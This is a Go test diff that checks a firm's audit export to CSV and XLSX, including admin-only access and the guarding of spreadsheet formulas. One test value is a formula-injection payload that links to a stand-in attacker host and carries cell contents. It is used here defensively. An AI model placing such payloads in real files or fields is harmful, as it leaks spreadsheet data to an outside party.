@@ -1,6 +1,9 @@
 package onboarding_test
 
 import (
+	"archive/zip"
+	"bytes"
+	"io"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
@@ -318,5 +321,74 @@ func TestOneSubmissionPerClient(t *testing.T) {
 	bob.sync()
 	if got, _ := bob.bySIRET(siret); got.Sync.State != core.StateCreated {
 		t.Fatalf("Bob's desktop after the exchange: %+v", got.Sync)
+	}
+}
+
+// TestExportAudit: the admin exports the firm's audit as CSV and as a
+// workbook, a line per entry with who changed which field from what to
+// what; a value typed to run in a spreadsheet (a note starting with "=")
+// is guarded in the CSV and a text cell, never a formula, in the
+// workbook; a member who is not admin may not export.
+func TestExportAudit(t *testing.T) {
+	fs := newFirmServer(t)
+	ana, bob := fs.newDesk(t, "ana@cabinet.example"), fs.newDesk(t, "bob@cabinet.example")
+	if err := fs.ops.CreateFirm(t.Context(), "Cabinet Martin", "ana@cabinet.example"); err != nil {
+		t.Fatal(err)
+	}
+	if err := fs.ops.AddMember(t.Context(), "Cabinet Martin", "bob@cabinet.example", api.FirmEveryClient); err != nil {
+		t.Fatal(err)
+	}
+	ana.join(fs.hs.URL, true)
+	bob.join(fs.hs.URL, true)
+	const evil = `=HYPERLINK("http://attacker.example/?"&A1,"voir")`
+	bob.save("73282932000074", func(d *core.StructureDraft) { d.City = "Lyon" }, evil)
+	bob.sync()
+
+	var csvOut bytes.Buffer
+	n, err := ana.svc.FirmAdmin.ExportAudit(t.Context(), &csvOut, "csv")
+	if err != nil || n == 0 {
+		t.Fatalf("CSV export: %d entries, %v", n, err)
+	}
+	text := csvOut.String()
+	lines := strings.Split(strings.TrimRight(text, "\r\n"), "\n")
+	if !strings.HasPrefix(text, "\ufeffentry;client;revision;at_utc;by;computer;action;field;old;new") || len(lines) != n+1 {
+		t.Fatalf("CSV: %d lines for %d entries:\n%s", len(lines), n, text)
+	}
+	noteLine := ""
+	for _, l := range lines {
+		if strings.Contains(l, "HYPERLINK") {
+			noteLine = l
+		}
+	}
+	if !strings.Contains(noteLine, `bob@cabinet.example;PC of bob@cabinet.example`) || !strings.Contains(noteLine, `"'=HYPERLINK(`) {
+		t.Fatalf("the note's line is not guarded or says not who: %q", noteLine)
+	}
+
+	var xlsxOut bytes.Buffer
+	if m, err := ana.svc.FirmAdmin.ExportAudit(t.Context(), &xlsxOut, "xlsx"); err != nil || m != n {
+		t.Fatalf("workbook export: %d entries (CSV %d), %v", m, n, err)
+	}
+	zr, err := zip.NewReader(bytes.NewReader(xlsxOut.Bytes()), int64(xlsxOut.Len()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sheet string
+	for _, f := range zr.File {
+		if strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
+			rc, err := f.Open()
+			if err != nil {
+				t.Fatal(err)
+			}
+			b, _ := io.ReadAll(rc)
+			rc.Close()
+			sheet += string(b)
+		}
+	}
+	if !strings.Contains(sheet, "=HYPERLINK(") || strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
+		t.Fatalf("the workbook's sheet holds no note as text, or a formula:\n%.2000s", sheet)
+	}
+
+	if _, err := bob.svc.FirmAdmin.ExportAudit(t.Context(), io.Discard, "csv"); core.KindOf(err) != core.KindForbidden {
+		t.Fatalf("a member exports the audit: %v (%v)", err, core.KindOf(err))
 	}
 }
